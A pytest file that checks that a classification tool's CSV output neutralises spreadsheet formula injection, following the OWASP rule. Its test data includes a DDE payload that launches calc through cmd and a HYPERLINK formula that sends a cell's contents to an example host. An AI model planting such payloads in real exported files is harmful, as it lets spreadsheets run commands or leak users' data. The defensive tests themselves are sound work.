"""CSV the studio writes opens in a spreadsheet as text: no cell runs as a formula (the OWASP rule)."""
from __future__ import annotations

import csv
import json
import shutil

import pandas as pd
import pytest

from studio import inference
from studio.tables import FORMULA_STARTS, neutralise_formula, neutralise_frame

# Cells of an input table as the data reader gives them back (a CR starts a new row there; the per-cell
# tests cover it).
DANGEROUS = ["=1+1", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1",
             '=HYPERLINK("http://example.com/?"&A1,"open")']


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_gets_a_quote_and_keeps_its_text(start):
    cell = f"{start}HYPERLINK(\"http://x\")"
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "a = b", "3 + 4", "email@example.com", "", " =not first",
                                  "-5", "+1.5", "-1e3", "我们=好"])
def test_other_text_and_plain_numbers_stay_as_they_are(cell):
    assert neutralise_formula(cell) == cell


def test_non_text_cells_stay_as_they_are():
    assert neutralise_formula(3) == 3 and neutralise_formula(None) is None and neutralise_formula(-2.5) == -2.5


def test_a_frame_keeps_numbers_missing_cells_and_repeated_column_names():
    frame = pd.DataFrame([["=1+1", 1, None], ["ok", 2, "@x"]], columns=["=name", "n", "n"])
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=name", "n", "n"]
    assert out.iloc[:, 0].tolist() == ["'=1+1", "ok"] and out.iloc[:, 1].tolist() == [1, 2]
    assert pd.isna(out.iloc[0, 2]) and out.iloc[1, 2] == "'@x"
    assert frame.iloc[0, 0] == "=1+1"   # the caller's table is not changed


@pytest.fixture
def formula_model_dir(separable_run, tmp_path):
    """The separable run's model with label names a spreadsheet would run as formulas."""
    folder = tmp_path / "model"
    shutil.copytree(separable_run["dir"] / "model", folder)
    config = json.loads((folder / "config.json").read_text())
    names = {"fruit": "=HYPERLINK(\"http://x\",\"fruit\")", "tools": "@tools"}
    config["id2label"] = {k: names[v] for k, v in config["id2label"].items()}
    config["label2id"] = {names[k]: v for k, v in config["label2id"].items()}
    (folder / "config.json").write_text(json.dumps(config))
    return folder


def _dangerous_table(tmp_path):
    source = tmp_path / "in.csv"
    with open(source, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "text", "=note"])
        for i, cell in enumerate(DANGEROUS):
            w.writerow([i, f"apple banana {i}" if i % 2 else f"engine brake {i}", cell])
        w.writerow([99, "-", "-7"])
    return source


def test_classified_file_has_no_formula_cells(formula_model_dir, tmp_path):
    source, out = _dangerous_table(tmp_path), tmp_path / "out.csv"
    result = inference.Classifier(formula_model_dir).classify_file(source, out, text_column="text")
    with open(out, newline="", encoding="utf-8-sig") as f:   # with or without a byte-order mark
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert header == ["id", "text", "'=note", "predicted_label", "confidence"]
    assert [r[2] for r in body] == ["'" + c for c in DANGEROUS] + ["-7"]
    assert {r[3] for r in body} == {"'=HYPERLINK(\"http://x\",\"fruit\")", "'@tools"}   # the model answers both
    assert body[-1][1] == "'-" and all(r[1].startswith(("apple", "engine")) for r in body[:-1])
    assert all(not cell.startswith(FORMULA_STARTS) for r in rows for cell in r if not cell.lstrip("-+").replace(".", "").isdigit())
    assert result["rows"] == len(DANGEROUS) + 1


def test_cli_predict_file_writes_neutralised_cells(formula_model_dir, tmp_path, capsys):
    from studio.__main__ import main
    source, out = _dangerous_table(tmp_path), tmp_path / "cli.csv"
    assert main(["predict", str(formula_model_dir), "--file", str(source), "--text-column", "text",
                 "--out", str(out)]) == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert frame["'=note"].tolist()[:len(DANGEROUS)] == ["'" + c for c in DANGEROUS]
    assert all(label.startswith("'") for label in frame["predicted_label"])
